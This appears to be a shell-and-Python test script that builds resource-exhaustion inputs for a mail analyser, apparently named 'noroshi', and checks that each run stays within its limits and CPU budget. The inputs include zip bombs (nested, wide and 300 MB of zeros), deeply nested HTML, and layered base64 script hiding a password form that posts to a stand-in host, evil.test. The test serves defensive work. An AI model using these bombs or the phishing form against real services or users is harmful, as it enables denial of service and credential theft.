# once
# Attachments, pages, links and texts made to cost: each ends within the jail's limits, examined fully or partly with the
# limit named, and within 2 s of CPU.
n=${NOROSHI:-build/noroshi}
failed=0
mkdir -p "$TMPDIR/b"
python3 - "$TMPDIR/b" <<'P'
import base64, io, os, struct, sys, zipfile, zlib
place = sys.argv[1]

def mail(name, text="Hello\r\n", files=(), kind="text/plain; charset=utf-8", encoding="8bit"):
    out = ["From: a@notice.test\r\nTo: carol@umi-denki.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
           f"Content-Type: {kind}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n", text, "\r\n"]
    for file, data in files:
        out += [f'--b\r\nContent-Type: application/octet-stream; name="{file}"\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n',
                base64.encodebytes(data).decode(), "\r\n"]
    with open(os.path.join(place, name + ".eml"), "w", newline="") as f:
        f.write("".join(out) + "--b--\r\n")

def zipped(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()

zeros = zipped([("zeros.txt", bytes(300 << 20))])
mail("zip-of-zeros", files=[("z.zip", zeros)])
inner = zipped([("a.js", b"1;" * 1000)])
for _ in range(20):
    inner = zipped([("x.zip", inner)])
mail("zip-in-zip", files=[("deep.zip", inner)])
wide = zipped([("w.txt", bytes(4 << 20))])
for _ in range(4):
    wide = zipped([(f"{i}.zip", wide) for i in range(16)])
mail("zip-tree", files=[("wide.zip", wide)])
mail("many-members", files=[("many.zip", zipped([(f"{i}.txt", b"x") for i in range(12000)]))])
mail("nested-divs", files=[("page.html", b"<html>" + b"<div>" * 200000 + b"x" + b"</div>" * 200000)])
mail("nested-divs-shown", text="<div>" * 200000, kind="text/html; charset=utf-8")
mail("quoted-printable", text="=41=\r\n" * (3 << 20), encoding="quoted-printable")
layers = b"<form action='https://evil.test/'><input type=password></form>"
for _ in range(12):
    layers = b"<script>document.write(atob('" + base64.b64encode(layers * 2)[:300000] + b"'))</script>"
mail("script-layers", files=[("l.html", layers)])
mail("open-tags", files=[("t.html", b"<!DOCTYPE html><html>" + b"<a " * 400000)])
mail("cells", text="<table>" + "<tr><td bgcolor=#000 colspan=200>" * 300000, kind="text/html; charset=utf-8")
mail("tables", text=("<table>" + "<tr><td colspan=200>" * 25) * 10000, kind="text/html; charset=utf-8")
mail("blocks", text=("\u2588\u2580" * 20 + "\r\n") * 100000)
mail("blocks-parted", text=(("\u2588\u2580" * 12 + "\r\n") * 25 + "x\r\n") * 3000)
mail("escapes", files=[("e.html", b"<script>" + b"%3" * (1 << 20) + b"</script>")])
mail("equals", text="https://x.test/?a" + "=" * 8000 + "\r\n" + "https://x.test/" + "a=" * 4000 + "\r\n")
mail("links-in-links", text="\r\n".join("https://a.test/?u=" + "https%3A//b.test/%3Fu=" * 300 + str(i) for i in range(300)))
mail("passwords", text="password: " * 200000, files=[("p.zip", zipped([("a.txt", b"x")]))])
mail("numbers", text="call us, you have been charged 1-2 3" * 300000)
mail("invisible", text="pa\u200bss" * (1 << 20))
mail("twins", text="p\u0430" * (1 << 20))
mail("brands", text="Amazon PayPal " * 600000)
mail("forwards", text="-----Original Message-----\r\nFrom: a@b.test\r\nSubject: x\r\n" * 100000)
mail("calendar", text="BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:x" + "\r\n a" * 1000000 + "\r\nEND:VEVENT\r\n", kind="text/calendar")
with open(os.path.join(place, "dmarc.xml"), "w") as f:
    f.write("<feedback><report_metadata></report_metadata>" + "<record><count>1</count></record>" * 300000 + "</feedback>")
with open(os.path.join(place, "open.xml"), "w") as f:
    f.write("<feedback><report_metadata>" + "<" * (8 << 20))
P
for file in "$TMPDIR"/b/*; do
	if NOROSHI="$n" python3 - "$file" <<'P'
import json, os, resource, subprocess, sys
done = subprocess.run([os.environ["NOROSHI"], "analyse", "--json", sys.argv[1]], capture_output=True)
used = resource.getrusage(resource.RUSAGE_CHILDREN)
docs = [json.loads(line) for line in done.stdout.splitlines()]
cpu = used.ru_utime + used.ru_stime
print("note:", os.path.basename(sys.argv[1]), "%.2f s CPU" % cpu, [(d["examined"], [x["limit"] for x in d["limits"]]) for d in docs][:3])
sys.exit(0 if docs and all(d["examined"] in ("fully", "partly") for d in docs) and cpu <= 2.5 else 1)
P
	then echo "ok - $(basename "$file")"; else echo "not ok - $(basename "$file")"; failed=1; fi
done
exit $failed
